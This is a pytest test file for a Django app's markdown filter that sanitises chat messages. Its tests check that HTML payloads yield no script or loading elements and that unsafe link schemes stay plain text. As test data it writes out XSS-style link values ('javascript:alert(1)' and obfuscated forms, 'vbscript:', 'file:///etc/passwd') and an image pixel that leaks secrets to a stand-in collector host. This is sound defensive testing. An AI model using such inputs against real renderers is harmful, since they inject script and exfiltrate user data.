import json
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.utils.html import strip_tags

from sessions_app.domain.search_words import read_query
from sessions_app.templatetags.markdown import LONGEST, holds, markdown, marked_text

CASE = json.loads((Path(__file__).parents[1] / "data/cases/C47-html-in-messages.json").read_text())
PAYLOADS = CASE["input"]["payloads"]
REL = 'rel="noopener nofollow noreferrer"'


class Elements(HTMLParser):
    """What a browser would make of HTML: its elements with their attributes."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(text):
    return Elements(markdown(text)).found


def text_of(html):
    return unescape(strip_tags(html))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_an_element_that_runs_or_loads_anything(payload):
    for tag, attributes in elements(payload):
        assert tag in {"p", "a", "span", "pre", "code", "br"}
        assert not [name for name in attributes if name.startswith("on") or name in {"src", "style", "srcdoc"}]
        assert attributes.get("href", "https:").startswith(("https:", "http:", "mailto:"))


@pytest.mark.parametrize("payload", [each for each in PAYLOADS if "```" not in each and "![" not in each])
def test_a_payload_that_is_no_markdown_is_shown_as_it_was_written(payload):
    assert text_of(markdown(payload)) == payload


def test_a_picture_becomes_a_link_that_says_where_it_goes():
    shown = markdown("![pixel](https://collector.example/p.png?leak=SECRET-WORDS)")
    assert text_of(shown) == "image left out: pixel https://collector.example/p.png?leak=SECRET-WORDS"
    assert f'<a href="https://collector.example/p.png?leak=SECRET-WORDS" {REL}>' in shown


def test_a_picture_in_a_link_makes_no_link_in_a_link():
    assert [tag for tag, _ in elements("[![i](https://x.example/i.png)](https://y.example)")] == ["p", "a", "span"]


@pytest.mark.parametrize("address", ["https://a.example/b?c=1&d=2", "http://a.example", "mailto:a@b.example"])
def test_links_of_the_web_and_of_mail_are_links(address):
    (_, attributes) = elements(f"[words]({address})")[1]
    assert attributes == {"href": address, "rel": "noopener nofollow noreferrer"}


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "/admin/",
        "#x",
        "//a.example",
        "ftp://a.example",
        "&#106;avascript:alert(1)",
        "java\\script:x",
        "https:a",
        "http://",
    ],
)
def test_any_other_address_stays_text(address):
    text = f"[words]({address})"
    assert "a" not in [tag for tag, _ in elements(text)]
    assert address.replace("\\s", "s") in text_of(markdown(text)).replace("\\s", "s")


def test_it_lays_out_lists_tables_code_and_emphasis():
    text = "# Top\n\n- a **b**\n\n3. c\n\n|x|y|\n|:-|-:|\n|1|2|\n\n> q\n\n```python\nx = 1  # one\n```\n\n~~no~~ `in`"
    tags = [tag for tag, _ in elements(text)]
    for tag in ("ul", "ol", "li", "strong", "table", "th", "td", "blockquote", "pre", "code", "s"):
        assert tag in tags
    assert '<span class="h-c"># one</span>' in markdown(text)
    assert '<ol start="3">' in markdown(text)
    assert '<td class="ar">2</td>' in markdown(text)


def test_its_headings_are_none_of_the_page():
    assert not {"h1", "h2", "h3"} & {tag for tag, _ in elements("# a\n\n## b\n\nc\n===")}


def test_line_ends_of_a_message_stay():
    assert markdown("one\ntwo\n\nthree") == "<p>one<br>two</p><p>three</p>"
    assert markdown("*one*\ntwo") == "<p><em>one</em><br>two</p>"


@pytest.mark.parametrize(
    "text",
    [
        ">" * 5_000 + "end",
        "\n".join("  " * n + "- a" for n in range(60)),
        "|" + "a|" * 900 + "\n|" + "-|" * 900 + "\n|x" * 900,
        "**a** " * (LONGEST // 6 + 1),
        "*a* " * 250_000,
    ],
)
def test_what_is_too_deep_too_wide_or_too_long_stays_as_it_was_written_and_that_is_said(text):
    shown = markdown(text)
    assert text in text_of(shown)
    assert "Shown as it was written" in shown
    assert "<table" not in shown


@pytest.mark.parametrize("piece", ["[", "![", "[a](", "<", "&", "](", "<!--", "<http:", '[a](b "', "[]("])
def test_nothing_of_what_only_begins_like_markdown_is_lost(piece):
    assert text_of(markdown(piece * 500)) == piece * 500


def test_what_is_sought_is_marked_in_texts_and_in_code():
    sought = read_query("lisbon")
    assert markdown("To **Lisbon** and `lisbon`.", sought).count("<mark>") == 2
    assert markdown("<b>Lisbon", sought) == "<p>&lt;b&gt;<mark>Lisbon</mark></p>"
    assert marked_text("<Lisbon>", sought) == "&lt;<mark>Lisbon</mark>&gt;"
    assert (holds("to Lisbon", sought), holds("to Porto", sought), holds(None, sought)) == (True, False, False)
